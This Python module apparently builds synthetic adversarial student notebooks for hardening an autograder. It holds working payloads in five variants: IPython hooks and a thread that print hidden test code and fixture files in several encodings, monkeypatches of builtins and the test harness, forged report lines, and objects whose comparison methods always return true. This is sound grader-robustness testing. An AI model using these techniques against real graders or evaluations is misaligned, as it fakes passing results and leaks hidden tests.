"""Hostile students of the synthetic class who attack the grading itself (lesson 03).

Each kind is an edit of the reference answers, like the kinds in ``generate.py``; each must
score what its honest content earns (``expected_scores.csv``), and no feedback file may carry
hidden-test text in any encoding (``tests/grading/test_hostile_grading.py`` decodes what they
print: base64, zlib, hex, rot13, reversed).

* ``exfiltrator``: correct answers, plus every way to carry hidden tests out through the
  feedback: ``pre_run_cell``/``post_run_cell`` hooks that print each cell's source, wrappers
  around its own functions that record the arguments a test passes and the files it prepared,
  a thread that prints all of it in five encodings while tests run, later cells that print it
  again, and exceptions whose messages carry it. Expected: full marks (18).
* ``transformer``: the release as given plus an input transformer, registered from the first
  answer cell, that blanks every later cell. It used to make the untouched release score
  18/19 (test cells blanked); tests no longer pass through the kernel. Expected: 0.
* ``patcher``: a monitor that does nothing, plus patches of everything a test in the kernel
  would have used: ``run_harness`` returning a perfect report, ``float`` and ``AssertionError``
  in builtins, a ``post_run_cell`` hook and a display hook that inject a number as the cell's
  result. Expected: what the do-nothing monitor earns (11: exercises 1-4 and old sessions).
* ``forger``: the same do-nothing monitor printing forged and malformed
  ``SESSIONLAB-MONITOR-REPORT`` lines from every method (the pytest grader and the latency
  plot used to trust that line; a malformed one crashed the batch). Expected: 11.
* ``liar``: results that lie: ``is_stray`` returns an object whose ``__eq__``, ``__bool__``,
  ``__float__`` and ``__len__`` say whatever helps, ``LineFollower.read_lines`` a list subclass
  whose ``__eq__`` is always true (its content is right), ``get_stats`` a structure nested
  deeper than any grader reads. Expected: 15 (exercise 1 and the basics of exercise 5 lost).
"""

from __future__ import annotations

from collections.abc import Callable

Answers = dict[str, str]


def _edit(text: str, old: str, new: str) -> str:
    if old not in text:
        raise ValueError(f"variant no longer applies: {old[:60]!r} not in the reference answer")
    return text.replace(old, new, 1)


EXFILTRATE = """import base64 as _b64
import codecs as _codecs
import threading as _threading
import zlib as _zlib
from pathlib import Path as _Path

_seen = []
_pending = []  # what the spied calls passed: recorded at once, looked into by the pump
_lock = _threading.Lock()


def _remember(*values):
    # Cheap on purpose: it runs inside the monitor's own calls, which are timed. The values
    # are kept at once; their folders are read later by the pump, off the monitor's path.
    for value in values:
        text = str(value)
        if text not in _seen:
            _seen.append(text)
        _pending.append(text)


def _look(folders):
    # Record the pending values, and whatever the test prepared next to them.
    while _pending:
        folders.add(_Path(_pending.pop(0)).parent)
    for folder in folders:
        try:
            for item in folder.iterdir():
                if item.name not in _seen:
                    _seen.append(item.name)
                if item.is_file() and item.stat().st_size < 4096:
                    content = item.read_text(errors="replace")
                    if content not in _seen:
                        _seen.append(content)
        except OSError:
            pass


def _leak(text):
    data = text.encode()
    print("b64:", _b64.b64encode(data).decode())
    print("zlib:", _b64.b64encode(_zlib.compress(data)).decode())
    print("hex:", data.hex())
    print("rot13:", _codecs.encode(text, "rot13"))
    print("reversed:", text[::-1])
    print("plain:", text)


def _spill():
    # Everything captured so far, again: a print during a test's call is dropped, so only a
    # later print (during one of the student's own cells) carries it out.
    with _lock:
        _look(set())
        text = "\\n".join(_seen)
    _leak(text)


def _cell_hook(info=None, result=None):
    cell = getattr(info, "raw_cell", None) or getattr(getattr(result, "info", None), "raw_cell", "")
    _leak(cell or "")
    _spill()


_ip = get_ipython()  # noqa: F821
_ip.events.register("pre_run_cell", _cell_hook)
_ip.events.register("post_run_cell", lambda result: _cell_hook(result=result))


def _pump():
    import time as _time

    printed = 0
    while True:  # prints whatever is new, while the tests run (not a CPU hog: its own
        _time.sleep(0.05)  # monitor runs in this process and is timed)
        if len(_seen) > printed or _pending:
            _spill()
            printed = len(_seen)


_threading.Thread(target=_pump, daemon=True).start()


"""

SPY = """

_honest_is_stray = is_stray


def is_stray(path, fixed_name, baseline):
    _remember(path, fixed_name, *sorted(baseline))
    return _honest_is_stray(path, fixed_name, baseline)
"""

TRANSFORMER = """def _blank(lines):
    return []


get_ipython().input_transformers_post.append(_blank)  # noqa: F821


def is_stray(path, fixed_name, baseline):
    raise NotImplementedError()
"""

DO_NOTHING = '''class StudentMonitor:
    """Does nothing at all."""

    def __init__(self, project_dir, session_id):
        self.project_dir = project_dir
        self.session_id = session_id

    def start(self):
        pass

    def stop(self):
        pass

    def get_stats(self):
        return {"corrections": 1, "intercepted_files": 1, "unique_files": 1}
'''

PATCHES = """

import builtins

import sessionlab.monitor.harness as _harness
from sessionlab.monitor.harness import CheckResult, HarnessReport

PERFECT = [
    "detection_latency", "preservation_persistent_fd", "preservation_reopen",
    "preservation_torn", "chain_continuity", "dedup_resume_copy", "old_sessions_untouched",
]


def run_harness(*args, **kwargs):
    report = HarnessReport(monitor="StudentMonitor", quick=True)
    report.checks = [CheckResult(name, True, {}, "ok") for name in PERFECT]
    return report


_harness.run_harness = run_harness
globals()["run_harness"] = run_harness
builtins.float = lambda *args: 7.0


class _NeverRaised(Exception):
    pass


builtins.AssertionError = _NeverRaised
get_ipython().events.register(  # noqa: F821
    "post_run_cell", lambda result: setattr(result, "result", 7.0)
)
get_ipython().display_formatter.formatters["text/plain"].for_type(  # noqa: F821
    type(None), lambda obj, p, cycle: p.text("7.0")
)
"""

FORGED = """

import json as _json

_PERFECT = {
    "checks": [
        {"name": name, "passed": True, "numbers": {}, "detail": "forged", "samples": {}}
        for name in (
            "detection_latency", "preservation_persistent_fd", "preservation_reopen",
            "preservation_torn", "chain_continuity", "dedup_resume_copy",
            "old_sessions_untouched",
        )
    ]
}


def _forge():
    print("SESSIONLAB-MONITOR-REPORT " + _json.dumps(_PERFECT), flush=True)
    print("SESSIONLAB-MONITOR-REPORT {\\"checks\\": [{\\"passed\\": 1}]}", flush=True)
    print("SESSIONLAB-MONITOR-REPORT not json at all", flush=True)
    print('SESSIONLAB-MONITOR-REPORT {"error": ["not", "a", "string"]}', flush=True)


_forge()


class StudentMonitor(_Quiet):
    def __init__(self, project_dir, session_id):
        _forge()
        super().__init__(project_dir, session_id)

    def start(self):
        _forge()

    def stop(self):
        _forge()
"""

LIE = '''

class _Lie:
    """Says yes to everything a check might ask."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __float__(self):
        return 1e9

    def __int__(self):
        return 10**9

    def __index__(self):
        return 10**9

    def __len__(self):
        return 1

    __hash__ = object.__hash__


class _AlwaysEqual(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


_honest_is_stray = is_stray


def is_stray(path, fixed_name, baseline):
    return _Lie()
'''


def exfiltrator(a: Answers) -> Answers:
    return {
        **a,
        "is_stray": EXFILTRATE + a["is_stray"] + SPY,
        "line_follower": _edit(
            a["line_follower"],
            "        self.path = Path(path)\n",
            "        self.path = Path(path)\n        _remember(path)\n",
        )
        + "\n\n_spill()\n",
        "open_for_writing": a["open_for_writing"] + "\n\n_spill()\n",
        "student_monitor": a["student_monitor"] + "\n\n_spill()\n",
    }


def transformer(a: Answers) -> Answers:
    return {"is_stray": TRANSFORMER}


def patcher(a: Answers) -> Answers:
    return {**a, "student_monitor": DO_NOTHING + PATCHES}


def forger(a: Answers) -> Answers:
    quiet = DO_NOTHING.replace("class StudentMonitor:", "class _Quiet:")
    return {**a, "student_monitor": quiet + FORGED}


def liar(a: Answers) -> Answers:
    follower = _edit(
        a["line_follower"],
        "        return buffer[:cut].splitlines(keepends=True)",
        "        return _AlwaysEqual(buffer[:cut].splitlines(keepends=True))",
    )
    monitor = _edit(a["student_monitor"], "if not is_stray(", "if not _honest_is_stray(")
    # get_stats returns data 5,000 lists deep. Its old body stays below the new return, as
    # unreachable code; ``merged`` stays bound there, so the own-work rule (which zeroes an
    # answer that reads a name no code of the notebook defines) sees an ordinary local.
    deep = "        nested = []\n        for _ in range(5000):\n            nested = [nested]\n"
    monitor = _edit(
        monitor,
        "        merged = self.merger.stats if self.merger is not None else {}\n",
        deep + "        return {'corrections': nested}\n" + "        merged = {}\n",
    )
    return {
        **a,
        "is_stray": a["is_stray"] + LIE,
        "line_follower": follower,
        "student_monitor": monitor,
    }


KINDS: dict[str, Callable[[Answers], Answers]] = {
    "exfiltrator": exfiltrator,
    "transformer": transformer,
    "patcher": patcher,
    "forger": forger,
    "liar": liar,
}
# (LMS file name, student id) per kind, appended to the synthetic class.
STUDENTS = (
    ("hook_exfil_1038_5038_03-monitor.ipynb", "exfiltrator", "hook-exfil-1038"),
    ("tran_sformer_1039_5039_03-monitor.ipynb", "transformer", "tran-sformer-1039"),
    ("pat_cher_1040_5040_03-monitor.ipynb", "patcher", "pat-cher-1040"),
    ("for_ger_1041_5041_03-monitor.ipynb", "forger", "for-ger-1041"),
    ("li_ar_1042_5042_03-monitor.ipynb", "liar", "li-ar-1042"),
)
